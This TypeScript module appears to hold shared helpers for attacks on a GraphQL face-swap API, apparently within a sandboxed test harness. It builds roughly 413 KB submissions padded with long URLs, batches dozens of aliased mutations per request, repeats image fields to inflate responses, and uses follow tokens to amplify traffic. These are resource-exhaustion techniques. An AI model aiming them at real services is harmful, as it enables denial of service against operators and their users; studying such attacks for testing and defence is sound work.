/** Requests shared by several attacks. */
import { type Answer, inParallel, type Target } from './target.js';

const SUBMIT = `mutation Submit($input: SubmitFaceSwapInput!) {
  submitFaceSwap(input: $input) { job { id } } }`;
/** The maximum length of a URL, and the maximum number of them. */
const ADDRESS_LENGTH = 4096;
const MAX_IMAGES = 50;
const OPTS = '1,2:3,4:5,6:7,8';

/** A submit; words in `path` control the sandbox. */
export function submitOf(path = '/face.jpg') {
  const image = { path: `https://example.com${path}` };
  return { query: SUBMIT, variables: { input: { sourceImage: [image], targetImage: [image] } } };
}

/** A submit of 100 pictures with the longest URLs (413 KB), or with shorter ones. */
export function largeSubmitOf(nth: number, addressLength = ADDRESS_LENGTH) {
  const images = Array.from({ length: MAX_IMAGES }, (_, i) => {
    const start = `https://example.com/${nth}/${i}/`;
    return { path: start.padEnd(addressLength, 'x'), opts: OPTS };
  });
  return { query: SUBMIT, variables: { input: { sourceImage: images, targetImage: images } } };
}

/** A selection that repeats the URLs of all pictures of a job. */
export function picturesOf(times: number): string {
  const fields = Array.from(
    { length: times },
    (_, i) => `s${i}: sourceImage { path } t${i}: targetImage { path }`,
  );
  return `... on FaceSwapJob { ${fields.join(' ')} }`;
}

/** A follow token for one of the attacker's jobs. */
export async function followToken(target: Target): Promise<string> {
  const made = await target.ask(submitOf());
  const id = /"id":"([^"]+)"/.exec(made.text)?.[1];
  const minted = await target.ask({ query: `mutation { createFollowToken(jobId: "${id}") { token } }` });
  const token = /"token":"([^"]+)"/.exec(minted.text)?.[1];
  if (token === undefined) throw new Error(`No follow token: ${minted.text}`);
  return token;
}

/** Submits large requests; followers receive each one again with every update of its job. */
export async function submitLarge(target: Target, count: number): Promise<void> {
  await inParallel(count, 2, (i) => target.ask(largeSubmitOf(i)));
}

/** The maximum number of aliases in one request. */
const ALIASES = 50;

/** Sends many small submits in as few requests as possible. */
export async function submitMany(target: Target, count: number): Promise<readonly Answer[]> {
  const image = '[{ path: "https://example.com/face.jpg" }]';
  const one = (_: unknown, i: number) =>
    `a${i}: submitFaceSwap(input: { sourceImage: ${image}, targetImage: ${image} }) { job { id } }`;
  return inParallel(Math.ceil(count / ALIASES), 4, (i) => {
    const many = Array.from({ length: Math.min(ALIASES, count - i * ALIASES) }, one);
    return target.ask({ query: `mutation { ${many.join(' ')} }` });
  });
}

/** Repeats a field under aliases. */
export function aliased(count: number, field: (i: number) => string): string {
  return Array.from({ length: count }, (_, i) => `a${i}: ${field(i)}`).join(' ');
}
